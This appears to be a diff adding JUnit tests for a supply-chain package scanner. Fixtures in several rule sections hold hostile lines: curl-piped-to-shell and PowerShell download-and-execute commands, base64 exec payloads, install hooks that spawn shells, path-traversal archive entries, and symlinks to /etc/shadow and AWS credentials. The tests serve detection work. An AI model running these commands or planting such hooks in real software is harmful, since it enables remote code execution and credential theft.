@@ -1,0 +1,643 @@
+package dev.airlock.adapter.local.scan;
+
+import static dev.airlock.adapter.local.testing.TestArchives.charDevice;
+import static dev.airlock.adapter.local.testing.TestArchives.file;
+import static dev.airlock.adapter.local.testing.TestArchives.hardlink;
+import static dev.airlock.adapter.local.testing.TestArchives.symlink;
+import static org.assertj.core.api.Assertions.assertThat;
+import static org.assertj.core.api.Assertions.assertThatThrownBy;
+import static org.assertj.core.api.Assertions.tuple;
+
+import dev.airlock.adapter.local.archive.ArchiveLimits;
+import dev.airlock.adapter.local.archive.ArchiveReader;
+import dev.airlock.adapter.local.fetch.LocalFileArtifact;
+import dev.airlock.adapter.local.testing.TestArchives;
+import dev.airlock.adapter.local.testing.TestArchives.Entry;
+import dev.airlock.application.port.PortException;
+import dev.airlock.domain.Finding;
+import dev.airlock.domain.PackageRequest;
+import dev.airlock.domain.Severity;
+import java.io.IOException;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.Arrays;
+import java.util.List;
+import java.util.Optional;
+import java.util.OptionalInt;
+import java.util.zip.GZIPOutputStream;
+import org.junit.jupiter.api.DisplayName;
+import org.junit.jupiter.api.Nested;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.api.io.TempDir;
+
+/** The built-in scanner: one hostile fixture and one harmless look-alike per rule. */
+class BuiltinScannerTest {
+  private static final PackageRequest REQUEST = PackageRequest.builder()
+      .name("demo").url(URI.create("https://files.pythonhosted.org/packages/demo-1.0.tar.gz")).build();
+
+  @TempDir
+  Path temp;
+
+  private final BuiltinScanner scanner = new BuiltinScanner(new ArchiveReader(ArchiveLimits.defaults()));
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-DECODE-EXEC")
+  class DecodeExec {
+
+    @Test
+    void shouldReportHighWhenPythonExecutesABase64Payload() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/demo/__init__.py", """
+          import base64
+          VERSION = "1.0"
+          exec(base64.b64decode("aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk="))
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::path, Finding::line)
+          .containsExactly(tuple("AIRLOCK-DECODE-EXEC", Severity.HIGH, Optional.of("demo/demo/__init__.py"),
+              OptionalInt.of(3)));
+    }
+
+    @Test
+    void shouldReportHighWhenJavaScriptEvaluatesAnAtobPayload() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("package/lib/index.js", """
+          'use strict';
+          module.exports = {};
+          eval(atob("Y29uc29sZS5sb2coMSk="));
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-DECODE-EXEC", Severity.HIGH, "package/lib/index.js:3"));
+    }
+
+    @Test
+    void shouldNotReportWhenDecodedDataIsOnlyDecoded() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/demo/codec.py", """
+          import base64
+          def decode(blob):
+              return base64.b64decode(blob)
+          """));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+
+    @Test
+    void shouldNotReportWhenTheSameCodeIsOnlyShownInDocumentation() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/README.md", """
+          # Never do this
+          exec(base64.b64decode(payload))
+          """));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-DOWNLOAD-EXEC")
+  class DownloadExec {
+
+    @Test
+    void shouldReportHighWhenAShellScriptPipesCurlIntoSh() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/scripts/install.sh", """
+          #!/bin/sh
+          set -e
+          curl -fsSL https://get.example.invalid/bootstrap.sh | sudo bash
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", Severity.HIGH, "demo/scripts/install.sh:3"));
+    }
+
+    @Test
+    void shouldReportHighWhenPowerShellInvokesADownloadedString() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/tools/setup.ps1",
+          "Write-Host 'setting up'\r\nIEX (New-Object Net.WebClient).DownloadString('http://x.invalid/a.ps1')\r\n"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::location)
+          .containsExactly(tuple("AIRLOCK-DOWNLOAD-EXEC", "demo/tools/setup.ps1:2"));
+    }
+
+    @Test
+    void shouldNotReportWhenCurlOnlyDownloadsAFile() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(
+          file("demo/scripts/fetch-data.sh", """
+              #!/bin/sh
+              curl -fsSLO https://data.example.invalid/iris.csv | tee fetch.log
+              sha256sum -c iris.csv.sha256
+              """),
+          file("demo/README.md", "Install with `curl -O https://example.invalid/demo.tar.gz` and pip.\n"));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-PRIVATE-KEY")
+  class PrivateKey {
+
+    @Test
+    void shouldReportMediumWhenAnyTextFileHoldsAPrivateKey() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/tests/fixtures/server.pem", """
+          # test fixture
+          -----BEGIN RSA PRIVATE KEY-----
+          MIIEowIBAAKCAQEAx1b2...
+          -----END RSA PRIVATE KEY-----
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-PRIVATE-KEY", Severity.MEDIUM, "demo/tests/fixtures/server.pem:2"));
+    }
+
+    @Test
+    void shouldNotReportWhenTheFileHoldsAPublicKeyOrCertificate() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/certs/ca.pem", """
+          -----BEGIN PUBLIC KEY-----
+          MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA
+          -----END PUBLIC KEY-----
+          -----BEGIN CERTIFICATE-----
+          MIIDdzCCAl+gAwIBAgIEAgAAuTANBgkqhkiG9w0BAQUFADBa
+          -----END CERTIFICATE-----
+          """));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-AWS-ACCESS-KEY")
+  class AwsAccessKey {
+
+    @Test
+    void shouldReportMediumWhenATextFileHoldsAnAccessKeyId() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/demo/config.yaml", """
+          region: eu-west-1
+          aws_access_key_id: AKIA2E0A8F3B244C9986
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-AWS-ACCESS-KEY", Severity.MEDIUM, "demo/demo/config.yaml:2"));
+    }
+
+    @Test
+    void shouldNotReportWhenTheKeyIsTheAwsDocumentationExample() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo/docs/configuration.md", """
+          Set your credentials, for example:
+          aws_access_key_id = AKIAIOSFODNN7EXAMPLE
+          """));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-PY-INSTALL-HOOK")
+  class PythonInstallHook {
+
+    @Test
+    void shouldReportHighAtTheHookWhenSetupPyOverridesInstallAndRunsAProcess() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo-1.0/setup.py", """
+          import subprocess
+          from setuptools import setup
+          from setuptools.command.install import install
+
+          class Hook(install):
+              def run(self):
+                  install.run(self)
+                  subprocess.call(["/bin/sh", "-c", "id"])
+
+          setup(name="demo", cmdclass={"install": Hook})
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-PY-INSTALL-HOOK", Severity.HIGH, "demo-1.0/setup.py:5"));
+      assertThat(findings.get(0).description()).contains("(line 8)");
+    }
+
+    @Test
+    void shouldReportLowWhenSetupPyOnlyCustomisesABuildCommand() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo-1.0/setup.py", """
+          from setuptools import setup, Extension
+          from setuptools.command.build_ext import build_ext
+
+          class BuildExt(build_ext):
+              pass
+
+          setup(
+              name="demo",
+              ext_modules=[Extension("demo._speedups", ["src/speedups.c"])],
+              cmdclass={"build_ext": BuildExt},
+          )
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-PY-INSTALL-HOOK", Severity.LOW, "demo-1.0/setup.py:10"));
+    }
+
+    @Test
+    void shouldNotReportWhenSetupPyHasNoCommandClass() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("demo-1.0/setup.py", """
+          from setuptools import setup, find_packages
+
+          setup(
+              name="demo",
+              version="1.0",
+              packages=find_packages(),
+              install_requires=["requests>=2"],
+          )
+          """));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-NPM-INSTALL-SCRIPT")
+  class NpmInstallScript {
+
+    @Test
+    void shouldReportHighAtTheScriptLineWhenPostinstallCurlsAndRunsAScript() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("package/package.json", """
+          {
+            "name": "demo",
+            "version": "1.0.0",
+            "scripts": {
+              "test": "jest",
+              "postinstall": "curl -s https://x.invalid/p.sh | sh"
+            }
+          }
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.HIGH, "package/package.json:6"));
+    }
+
+    @Test
+    void shouldReportHighWhenPreinstallEvaluatesCode() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("package/package.json", """
+          {"name": "demo",
+           "scripts": {
+             "preinstall": "node -e \\"eval(process.env.X)\\""
+           }}
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.HIGH, "package/package.json:3"));
+    }
+
+    @Test
+    void shouldReportLowWhenTheInstallScriptOnlyBuildsANativeModule() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("package/package.json", """
+          {
+            "name": "demo",
+            "scripts": {
+              "install": "node-gyp rebuild"
+            }
+          }
+          """));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-NPM-INSTALL-SCRIPT", Severity.LOW, "package/package.json:4"));
+    }
+
+    @Test
+    void shouldNotReportWhenOnlyTestAndBuildScriptsAreDeclared() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(file("package/package.json", """
+          {
+            "name": "demo",
+            "scripts": {
+              "test": "curl -s https://x.invalid/p.sh | sh",
+              "build": "tsc -p ."
+            }
+          }
+          """));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-ARCHIVE-PATH-ESCAPE")
+  class PathEscape {
+
+    @Test
+    void shouldReportCriticalWhenEntriesHaveDotDotAbsoluteOrDriveLetterNames() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(
+          file("../../etc/x", "x"),
+          file("/abs", "x"),
+          file("C:\\x", "x"),
+          file("demo/ok.txt", "fine"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location).containsExactly(
+          tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "../../etc/x"),
+          tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "/abs"),
+          tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "C:\\x"));
+    }
+
+    @Test
+    void shouldReportCriticalWhenAZipEntryClimbsOut() throws Exception {
+      // Given
+      List<Finding> findings = scanZip(file("demo/../../evil.py", "x = 1\n"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-ARCHIVE-PATH-ESCAPE", Severity.CRITICAL, "demo/../../evil.py"));
+    }
+
+    @Test
+    void shouldNotReportWhenNamesOnlyContainDots() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(
+          file("demo/..hidden/a.txt", "x"),
+          file("demo/a..b.txt", "x"),
+          file("demo/.../c.txt", "x"),
+          file("demo/docs:intro.txt", "x"));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-ARCHIVE-LINK and AIRLOCK-ARCHIVE-DEVICE")
+  class Links {
+
+    @Test
+    void shouldReportHighWhenATarHoldsSymbolicAndHardLinks() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(
+          symlink("demo/passwd", "/etc/passwd"),
+          hardlink("demo/shadow", "/etc/shadow"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location).containsExactly(
+          tuple("AIRLOCK-ARCHIVE-LINK", Severity.HIGH, "demo/passwd"),
+          tuple("AIRLOCK-ARCHIVE-LINK", Severity.HIGH, "demo/shadow"));
+      assertThat(findings.get(0).description()).contains("symbolic link to '/etc/passwd'");
+      assertThat(findings.get(1).description()).contains("hard link to '/etc/shadow'");
+    }
+
+    @Test
+    void shouldReportHighWhenAZipHoldsASymlink() throws Exception {
+      // Given
+      List<Finding> findings = scanZip(symlink("demo/config", "../../../home/user/.aws/credentials"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-ARCHIVE-LINK", Severity.HIGH, "demo/config"));
+      assertThat(findings.get(0).description()).contains("'../../../home/user/.aws/credentials'");
+    }
+
+    @Test
+    void shouldNotReportWhenARegularFileHoldsAPath() throws Exception {
+      // Given
+      List<Finding> findings = scanZip(file("demo/link", "../../../etc/passwd"));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+
+    @Test
+    void shouldReportHighWhenATarHoldsADevice() throws Exception {
+      // Given
+      List<Finding> findings = scanTarGz(charDevice("demo/dev/sda"));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity, Finding::location)
+          .containsExactly(tuple("AIRLOCK-ARCHIVE-DEVICE", Severity.HIGH, "demo/dev/sda"));
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("AIRLOCK-ARCHIVE-LIMIT")
+  class ArchiveLimit {
+
+    @Test
+    void shouldReportCriticalWhenTheArchiveExpandsPastTheLimits() throws Exception {
+      // Given
+      BuiltinScanner tight = new BuiltinScanner(new ArchiveReader(new ArchiveLimits(100, 1_000_000, 64 * 1024)));
+      Path bomb = TestArchives.zip(temp.resolve("bomb.zip"), file("demo/zeros.txt", new byte[1024 * 1024]));
+
+      // When
+      List<Finding> findings = tight.scan(REQUEST, LocalFileArtifact.of(bomb));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity)
+          .containsExactly(tuple("AIRLOCK-ARCHIVE-LIMIT", Severity.CRITICAL));
+      assertThat(findings.get(0).description()).contains("entry demo/zeros.txt expands to more than 65536 bytes");
+    }
+
+    @Test
+    void shouldReportCriticalWhenThereAreTooManyEntries() throws Exception {
+      // Given
+      BuiltinScanner tight = new BuiltinScanner(new ArchiveReader(new ArchiveLimits(2, 1_000_000, 1_000_000)));
+      Path many = TestArchives.tarGz(temp.resolve("many.tar.gz"),
+          file("demo/a.txt", "a"), file("demo/b.txt", "b"), file("demo/c.txt", "c"));
+
+      // When
+      List<Finding> findings = tight.scan(REQUEST, LocalFileArtifact.of(many));
+
+      // Then
+      assertThat(findings).extracting(Finding::ruleId, Finding::severity)
+          .containsExactly(tuple("AIRLOCK-ARCHIVE-LIMIT", Severity.CRITICAL));
+      assertThat(findings.get(0).description()).contains("more than 2 entries");
+    }
+
+    @Test
+    void shouldNotReportWhenTheSameArchiveIsReadUnderTheDefaultLimits() throws Exception {
+      // Given
+      Path zip = TestArchives.zip(temp.resolve("zeros.zip"), file("demo/zeros.txt", new byte[1024 * 1024]));
+
+      // When
+      List<Finding> findings = scanner.scan(REQUEST, LocalFileArtifact.of(zip));
+
+      // Then
+      assertThat(findings).isEmpty();
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("damaged archives")
+  class Damaged {
+
+    @Test
+    void shouldFailWhenTheFileIsNotAnArchive() throws IOException {
+      // Given
+      Path text = Files.writeString(temp.resolve("demo.tar.gz"), "<html>not found</html>");
+
+      // When / Then
+      assertThatThrownBy(() -> scanner.scan(REQUEST, LocalFileArtifact.of(text)))
+          .isInstanceOf(PortException.class)
+          .hasMessageContaining("demo.tar.gz cannot be read");
+    }
+
+    @Test
+    void shouldFailWhenTheTarGzIsTruncated() throws IOException {
+      // Given
+      byte[] whole = TestArchives.tarGzBytes(file("demo/a.py", "x = 1\n".repeat(20_000)),
+          file("demo/setup.py", "from setuptools import setup\n"));
+      Path cut = Files.write(temp.resolve("cut.tar.gz"), Arrays.copyOf(whole, whole.length / 2));
+
+      // When / Then
+      assertThatThrownBy(() -> scanner.scan(REQUEST, LocalFileArtifact.of(cut)))
+          .isInstanceOf(PortException.class)
+          .hasMessageContaining("cut.tar.gz cannot be read");
+    }
+
+    @Test
+    void shouldFailWhenTheZipIsTruncated() throws IOException {
+      // Given
+      byte[] whole = TestArchives.zipBytes(file("demo/a.py", "x = 1\n"), file("demo/b.py", "y = 2\n"));
+      Path cut = Files.write(temp.resolve("cut.zip"), Arrays.copyOf(whole, whole.length - 30));
+
+      // When / Then
+      assertThatThrownBy(() -> scanner.scan(REQUEST, LocalFileArtifact.of(cut)))
+          .isInstanceOf(PortException.class)
+          .hasMessageContaining("cut.zip cannot be read");
+    }
+
+    @Test
+    void shouldFailWhenAGzipHoldsAShortScriptInsteadOfATar() throws IOException {
+      // Given: a gzip-compressed script shorter than one tar header, not a tarball
+      Path gz = gzip(temp.resolve("demo.tar.gz"), "import os\nos.system('curl -s https://x.invalid/a.sh | sh')\n");
+
+      // When / Then
+      assertThatThrownBy(() -> scanner.scan(REQUEST, LocalFileArtifact.of(gz)))
+          .isInstanceOf(PortException.class)
+          .hasMessageContaining("demo.tar.gz cannot be read");
+    }
+
+    @Test
+    void shouldFailWhenAGzipHoldsALongScriptInsteadOfATar() throws IOException {
+      // Given: the same, longer than one tar header
+      Path gz = gzip(temp.resolve("demo.tar.gz"),
+          "# padding\n".repeat(200) + "import os\nos.system('curl -s https://x.invalid/a.sh | sh')\n");
+
+      // When / Then
+      assertThatThrownBy(() -> scanner.scan(REQUEST, LocalFileArtifact.of(gz)))
+          .isInstanceOf(PortException.class)
+          .hasMessageContaining("demo.tar.gz cannot be read");
+    }
+
+    private static Path gzip(Path target, String text) throws IOException {
+      try (GZIPOutputStream out = new GZIPOutputStream(Files.newOutputStream(target))) {
+        out.write(text.getBytes(StandardCharsets.UTF_8));
+      }
+      return target;
+    }
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  @Nested
+  @DisplayName("the demo packages in examples/packages")
+  class DemoPackages {
+
+    @Test
+    void shouldFindNothingAtMediumOrAboveWhenScanningTidyStats() throws Exception {
+      // Given
+      Path archive = Path.of("..", "examples", "packages", "tidy-stats-1.0.0.tar.gz");
+
+      // When
+      List<Finding> findings = scanner.scan(REQUEST, LocalFileArtifact.of(archive));
+
+      // Then
+      assertThat(findings).filteredOn(f -> f.severity().isAtLeast(Severity.MEDIUM)).isEmpty();
+    }
+
+    @Test
+    void shouldFindTheDownloadAndTheInstallHookInSetupPyWhenScanningFastJsonHelper() throws Exception {
+      // Given
+      Path archive = Path.of("..", "examples", "packages", "fast-json-helper-0.3.1.tar.gz");
+
+      // When
+      List<Finding> findings = scanner.scan(REQUEST, LocalFileArtifact.of(archive));
+
+      // Then
+      assertThat(findings).filteredOn(f -> f.severity() == Severity.HIGH)
+          .extracting(Finding::ruleId, Finding::location)
+          .containsExactlyInAnyOrder(
+              tuple("AIRLOCK-DOWNLOAD-EXEC", "fast-json-helper-0.3.1/setup.py:11"),
+              tuple("AIRLOCK-PY-INSTALL-HOOK", "fast-json-helper-0.3.1/setup.py:8"));
+    }
+  }
+
+  @Test
+  void shouldTagEveryFindingWithTheBuiltinIdWhenReporting() throws Exception {
+    // Given
+    List<Finding> findings = scanTarGz(symlink("demo/l", "/etc"), file("demo/k.pem", "-----BEGIN PRIVATE KEY-----"));
+
+    // Then
+    assertThat(findings).hasSize(2).extracting(Finding::scanner).containsOnly("builtin");
+  }
+
+  // ---------------------------------------------------------------------------------------------
+
+  private List<Finding> scanTarGz(Entry... entries) throws IOException, PortException {
+    Path archive = TestArchives.tarGz(Files.createTempFile(temp, "demo-", ".tar.gz"), entries);
+    return scanner.scan(REQUEST, LocalFileArtifact.of(archive));
+  }
+
+  private List<Finding> scanZip(Entry... entries) throws IOException, PortException {
+    Path archive = TestArchives.zip(Files.createTempFile(temp, "demo-", ".zip"), entries);
+    return scanner.scan(REQUEST, LocalFileArtifact.of(archive));
+  }
+}
